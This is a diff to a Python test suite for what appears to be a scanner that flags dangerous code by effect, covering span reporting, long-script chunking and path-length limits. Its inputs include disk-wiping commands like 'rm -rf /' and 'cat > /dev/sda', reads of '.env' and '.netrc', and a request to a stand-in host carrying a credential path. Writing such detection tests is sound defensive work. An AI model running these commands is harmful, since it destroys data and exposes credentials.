@@ -83,6 +83,11 @@ def test_a_script_that_nobody_can_follow_hides_what_it_does(code: str) -> None:
         ("shell", "cat > /dev/sda", ["cat > /dev/sda"]),
         ("python", "import os\nx = '환', os.system('rm -rf /')\ny = 1", ["os.system('rm -rf /')"]),
         ("python", "a = open('.env')\nb = 2", ["'.env'"]),
+        (
+            "python",
+            "import os\n\n\nx = 1\nos.system(\n    'rm -rf /'\n)\ny = '.env'\n",
+            ["os.system(\n    'rm -rf /'\n)", "'.env'"],
+        ),
     ],
 )
 def test_what_is_found_is_pointed_at(language: str, code: str, spans: list[str]) -> None:
@@ -96,4 +101,33 @@ def test_a_line_that_nobody_reads_hides_what_it_does() -> None:
     assert effects("shell", "ls\n" * 4_000 + "rm -rf /\n") == "deletes"
     assert effects("shell", "ls\n" * 4_000) == "-"
     assert effects("python", "# " + "a" * 100_000) == "hides"
-    assert effects("python", "# " + "a" * 99_000) == "-"
+    assert effects("python", "# " + "a" * 99_998) == "-"
+    long = "# " + "a" * 99_999
+    assert [*findings_of(Block("python", 0, long), CONFIG)] == [("code.hides", 0, len(long))]
+
+
+def test_a_long_script_is_read_in_parts_of_whole_lines() -> None:
+    def spans(code: str) -> list[tuple[str, str]]:
+        found = findings_of(Block("shell", 0, code), CONFIG)
+        return [(CODES[one], code[start:end]) for one, start, end in found]
+
+    most, long = "echo " + "a" * 7_995, "echo " + "a" * 9_000
+    assert spans(most) == []
+    assert spans(f"{most[:-1]}\nrm -rf /\n") == [("deletes", "rm -rf /")]
+    assert spans(f"ls\n{long}\nrm -rf /\nls\n") == [
+        ("hides", f"{long}\n"),
+        ("deletes", "rm -rf /"),
+    ]
+    assert spans(f"{long}") == [("hides", long)]
+    lines = "ls\n" * 2_600 + "X=/\n" + "ls\n" * 2_700
+    assert spans(f"{lines}rm -rf $X\n") == [("deletes", "rm -rf $X")]
+
+
+def test_a_path_is_no_longer_than_paths_are() -> None:
+    assert effects("python", f"open('/{'a' * 291}/.netrc')") == "reads"
+    assert effects("python", f"open('/{'a' * 292}/.netrc')") == "reads"
+    assert effects("python", f"open('/{'a' * 293}/.netrc')") == "-"
+    sent = "import requests\nrequests.get('https://x.example', cert='{}/.netrc')"
+    assert effects("python", sent.format("a" * 292)) == "out+reads"
+    assert effects("python", sent.format("a" * 293)) == "reads"
+    assert effects("python", sent.format("a" * 294)) == "-"
